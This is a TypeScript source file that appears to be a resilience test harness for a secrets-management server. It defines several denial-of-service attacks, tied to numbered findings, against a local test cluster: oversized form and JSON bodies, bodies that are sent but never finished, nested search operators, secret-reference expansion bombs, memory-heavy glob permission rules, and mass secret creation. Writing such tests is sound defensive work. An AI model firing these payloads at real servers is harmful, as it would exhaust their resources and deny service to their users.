import { randomUUID } from 'node:crypto';
import { insist } from './client.js';
import type { Cluster } from './cluster.js';
import { aProject } from './scene.js';

/** One request of an attacker. */
export interface Shot {
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: Buffer | undefined;
  /** The body is sent but never ended. */
  readonly holdsBack?: boolean;
}

/** Who attacks, and who reads meanwhile. */
export interface Prey {
  readonly url: string;
  readonly victim: { readonly url: string; readonly path: string; readonly token: string };
  /** Administrators of the attacking organization, each with its own limits. */
  readonly tokens: readonly string[];
  readonly projectId: string;
  readonly orgId: string;
  readonly cluster: Cluster;
}

export interface Attack {
  readonly name: string;
  /** Requests at a time. */
  readonly at: number;
  /** Prepares; what it gives makes one shot after the other. */
  readonly attack: (prey: Prey) => Promise<() => Shot>;
}

const JSON_TYPE = { 'Content-Type': 'application/json' };

function shot(method: string, path: string, token?: string, body?: unknown): Shot {
  return {
    method,
    path,
    headers: {
      ...(token ? { Authorization: `Bearer ${token}` } : {}),
      ...(body === undefined ? {} : JSON_TYPE),
    },
    body: body === undefined ? undefined : Buffer.from(JSON.stringify(body)),
  };
}

type Founded = {
  identity: { credentials: { token: string } };
};

/** Two tenants: one with a secret to read, one with ten administrators and a project full of secrets. */
export async function prepare(cluster: Cluster): Promise<Prey> {
  const { scene } = cluster;
  const { url, token } = scene;
  const { identity } = await insist<Founded>('POST', `${url}/api/v1/admin/organizations`, {
    token,
    body: { name: 'Another tenant' },
  });
  const other = identity.credentials.token;
  const otherProject = await aProject({ url, token: other }, 'Read on');
  await create({ url, token: other }, otherProject, 'MINE', 'x');
  const path = `/api/v3/secrets/raw/MINE?workspaceId=${otherProject}&environment=dev`;
  const tokens = [token];
  while (tokens.length < 10) tokens.push(await anAdmin(url, token, scene.orgId));
  const secrets = Array.from({ length: 1_000 }, (_, n) => ({
    secretKey: `KEY_${n}`,
    secretValue: 'x'.repeat(100),
  }));
  const body = { workspaceId: scene.projectId, environment: 'dev', secrets };
  await insist('POST', `${url}/api/v3/secrets/batch/raw`, { token, body });
  const victim = { url, path, token: other };
  const { projectId, orgId } = scene;
  return { url, victim, tokens, projectId, orgId, cluster };
}

async function anAdmin(url: string, token: string, organizationId: string): Promise<string> {
  const post = <T>(path: string, body: object) =>
    insist<T>('POST', `${url}/api/v1${path}`, { token, body });
  const { identity } = await post<{ identity: { id: string } }>('/identities', {
    ...{ name: 'Attacker', organizationId, role: 'admin' },
  });
  const path = `/auth/token-auth/identities/${identity.id}`;
  await post(path, {});
  return (await post<{ accessToken: string }>(`${path}/tokens`, {})).accessToken;
}

const create = (
  { url, token }: { url: string; token: string },
  workspaceId: string,
  key: string,
  secretValue: string,
  environment = 'dev',
) =>
  insist('POST', `${url}/api/v3/secrets/raw/${key}`, {
    token,
    body: { workspaceId, environment, secretValue },
  });

const LOGIN = '/api/v1/auth/universal-auth/login';
const always = (one: Shot) => () => one;
const text = (length: number) => 'x'.repeat(length);

/** The findings F1, F3, F7, F12, F13, N5, N7 and N9, each as one attacker. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'forms',
    at: 4,
    attack: async () => {
      const parameters = Array.from({ length: 110_000 }, (_, n) => `a${n.toString(36)}=1`);
      return always({
        method: 'POST',
        path: '/api/v1/oauth/token',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: Buffer.from(parameters.join('&')),
      });
    },
  },
  {
    name: 'json-of-strangers',
    at: 8,
    attack: async () => {
      const wide = Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`a${n}`, 1]));
      const unknown = Array.from({ length: 99 }, () => wide);
      return always(shot('POST', LOGIN, undefined, { unknown }));
    },
  },
  {
    name: 'bodies-under-way',
    at: 500,
    attack: async () => {
      const length = 1024 * 1024;
      const headers = { ...JSON_TYPE, 'Content-Length': String(length) };
      const body = Buffer.alloc(length - 1, ' ');
      return always({ method: 'POST', path: LOGIN, headers, body, holdsBack: true });
    },
  },
  {
    name: 'bodies-of-members',
    at: 200,
    attack: async ({ tokens }) => {
      const length = 8 * 1024 * 1024;
      const headers = {
        ...{ ...JSON_TYPE, 'Content-Length': String(length) },
        Authorization: `Bearer ${tokens[0]!}`,
      };
      const body = Buffer.alloc(length - 1, ' ');
      return always({ method: 'POST', path: '/api/v4/secrets/X', headers, body, holdsBack: true });
    },
  },
  {
    name: 'logins',
    at: 60,
    attack: async () => () =>
      shot('POST', LOGIN, undefined, { clientId: randomUUID(), clientSecret: text(64) }),
  },
  { name: 'batch-updates', at: 60, attack: async (prey) => batchUpdates(prey, 1) },
  { name: 'ten-identities', at: 100, attack: async (prey) => batchUpdates(prey, 10) },
  { name: 'role-edits', at: 600, attack: roleEdits },
  { name: 'one-key', at: 60, attack: retries },
  {
    name: 'identity-searches',
    at: 40,
    attack: async ({ cluster, orgId, tokens }) => {
      await cluster.query(
        `insert into identities (id, org_id, membership_id, name, role)
         select gen_random_uuid(), $1, gen_random_uuid(), 'identity-' || n, 'member'
         from generate_series(1, 300) n`,
        [orgId],
      );
      const $in = Array.from({ length: 100 }, (_, n) => `${n}-${text(215)}`);
      const clause = { name: { $in }, role: { $in } };
      const search = { ...clause, $or: Array.from({ length: 20 }, () => clause) };
      return always(shot('POST', '/api/v1/identities/search', tokens[0], { search }));
    },
  },
  {
    name: 'expansions',
    at: 40,
    attack: async ({ url, tokens, projectId }) => {
      const value = '${NOPE1} '.repeat(116_000);
      await create({ url, token: tokens[0]! }, projectId, 'REFERS', value, 'staging');
      const path = `/api/v3/secrets/raw/REFERS?workspaceId=${projectId}&environment=staging`;
      return always(shot('GET', `${path}&expandSecretReferences=true`, tokens[0]));
    },
  },
  {
    name: 'reference-trees',
    at: 40,
    attack: async ({ tokens, projectId }) => {
      const path = '/api/v3/secrets/raw/REFERS/secret-reference-tree';
      return always(shot('GET', `${path}?workspaceId=${projectId}&environment=staging`, tokens[0]));
    },
  },
  {
    name: 'large-lists',
    at: 20,
    attack: async ({ url, tokens, projectId }) => {
      for (let n = 0; n < 31; n++) {
        const value = text(1024 * 1024);
        await create({ url, token: tokens[0]! }, projectId, `LARGE_${n}`, value, 'prod');
      }
      const path = `/api/v3/secrets/raw?workspaceId=${projectId}&environment=prod`;
      return always(shot('GET', path, tokens[0]));
    },
  },
  {
    name: 'long-lists',
    at: 60,
    attack: async ({ tokens, projectId }) => {
      const path = `/api/v3/secrets/raw?workspaceId=${projectId}&environment=dev`;
      return always(shot('GET', path, tokens[0]));
    },
  },
  { name: 'wide-lists', at: 20, attack: wideLists },
  {
    name: 'lists-as-of',
    at: 60,
    attack: async ({ tokens, projectId }) => {
      const asOf = encodeURIComponent(new Date().toISOString());
      const path = `/api/v4/secrets?projectId=${projectId}&environment=dev&asOf=${asOf}`;
      return always(shot('GET', path, tokens[0]));
    },
  },
  {
    name: 'rollback-previews',
    at: 60,
    attack: async ({ tokens, projectId }) => {
      const asOf = new Date(Date.now() - 5_000).toISOString();
      const place = { projectId, environment: 'dev', secretPath: '/' };
      const body = { ...place, asOf, dryRun: true };
      return always(shot('POST', '/api/v4/secrets/batch/rollback', tokens[0], body));
    },
  },
  {
    name: 'audit-pages',
    at: 60,
    attack: async ({ cluster, orgId, tokens }) => {
      await cluster.query(
        `insert into audit_entries select made.*
         from (select * from audit_entries where org_id = $1 limit 1) e, generate_series(1, 10000) n,
           jsonb_populate_record(null::audit_entries, to_jsonb(e) || jsonb_build_object('id', md5(n || e.id::text))) made`,
        [orgId],
      );
      const path = '/api/v1/organization/audit-logs?secretKey=NOTHING_IS_CALLED_THIS';
      return always(shot('GET', path, tokens[0]));
    },
  },
  { name: 'heavy-rules', at: 8, attack: heavyRules },
  {
    name: 'streams',
    at: 600,
    attack: async ({ tokens, projectId }) => {
      let n = 0;
      const path = '/api/v1/events/subscribe/project-events';
      return () => shot('POST', path, tokens[n++ % 10], { projectId, register: [{}] });
    },
  },
];

async function batchUpdates({ tokens, projectId }: Prey, attackers: number): Promise<() => Shot> {
  const secrets = Array.from({ length: 1_000 }, (_, n) => ({
    secretKey: `KEY_${n}`,
    secretValue: text(90),
  }));
  const body = { workspaceId: projectId, environment: 'dev', secrets };
  const shots = tokens
    .slice(0, attackers)
    .map((token) => shot('PATCH', '/api/v3/secrets/batch/raw', token, body));
  let n = 0;
  return () => shots[n++ % shots.length]!;
}

async function roleEdits({ url, tokens, projectId }: Prey): Promise<() => Shot> {
  const path = `/api/v1/projects/${projectId}/roles`;
  type Made = { role: { id: string } };
  const { role } = await insist<Made>('POST', `${url}${path}`, {
    token: tokens[0]!,
    body: { slug: 'edited', name: 'Edited', permissions: [] },
  });
  let n = 0;
  return () => shot('PATCH', `${path}/${role.id}`, tokens[0], { name: `Edited ${n++}` });
}

/** A folder of 15,000 secrets. */
async function wideLists({ url, tokens, projectId }: Prey): Promise<() => Shot> {
  const place = { workspaceId: projectId, environment: 'staging' };
  const [token] = tokens as [string];
  const folder = { ...place, name: 'wide', path: '/' };
  await insist('POST', `${url}/api/v1/folders`, { token, body: folder });
  for (let n = 0; n < 15; n++) {
    const secrets = Array.from({ length: 1_000 }, (_, i) => ({
      secretKey: `WIDE_${n}_${i}`,
      secretValue: text(60),
    }));
    const body = { ...place, secretPath: '/wide', secrets };
    await insist('POST', `${url}/api/v3/secrets/batch/raw`, { token, body });
  }
  const query = `workspaceId=${projectId}&environment=staging&secretPath=/wide`;
  return always(shot('GET', `/api/v3/secrets/raw?${query}`, token));
}

async function retries({ tokens, projectId }: Prey): Promise<() => Shot> {
  const body = { workspaceId: projectId, environment: 'staging', secretValue: 'x' };
  const one = shot('POST', '/api/v3/secrets/raw/RETRIED', tokens[0], body);
  return always({ ...one, headers: { ...one.headers, 'Idempotency-Key': randomUUID() } });
}

/** Rules that take much memory once they are compiled. Where they are refused, the reads are plain. */
async function heavyRules({ url, cluster, tokens }: Prey): Promise<() => Shot> {
  const token = tokens[0]!;
  const projectId = await aProject({ url, token }, 'Heavy');
  const letters = (n: number) =>
    Array.from({ length: 250 }, (_, i) => String.fromCharCode(0x100 + ((i + n) % 1_000))).join('');
  const permissions = Array.from({ length: 900 }, (_, n) => ({
    subject: 'secrets',
    action: ['readValue'],
    conditions: { secretPath: { $glob: `/${letters(n)}*` }, secretName: { $glob: letters(n) } },
  }));
  const { identityId } = cluster.scene;
  const roles = ['admin'];
  const sent = { token, body: { slug: '', name: 'Heavy', permissions } };
  for (let n = 0; n < 4; n++) {
    sent.body.slug = `heavy-${n}`;
    const made = await insist('POST', `${url}/api/v1/projects/${projectId}/roles`, sent).catch(
      () => null,
    );
    if (made) roles.push(sent.body.slug);
  }
  const path = `/api/v1/projects/${projectId}/identity-memberships/${identityId}`;
  const body = { roles: roles.map((role) => ({ role })) };
  await insist('PATCH', `${url}${path}`, { token, body }).catch(() => null);
  return always(shot('GET', `/api/v4/secrets?projectId=${projectId}&environment=dev`, token));
}
